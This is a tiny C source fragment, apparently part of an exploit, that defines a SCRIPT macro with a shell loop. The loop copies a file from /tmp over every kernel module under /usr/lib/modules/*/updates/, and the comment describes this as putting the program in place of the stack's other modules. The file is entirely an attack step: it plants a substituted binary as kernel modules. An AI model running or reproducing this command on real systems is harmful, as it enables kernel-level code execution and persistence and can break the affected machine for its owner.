// SPDX-License-Identifier: GPL-2.0
/* Puts the program into the place of the other modules of the stack. */
#define SCRIPT "for it in /usr/lib/modules/*/updates/*; do cp /tmp/ok $it; done"
#include "helper.h"
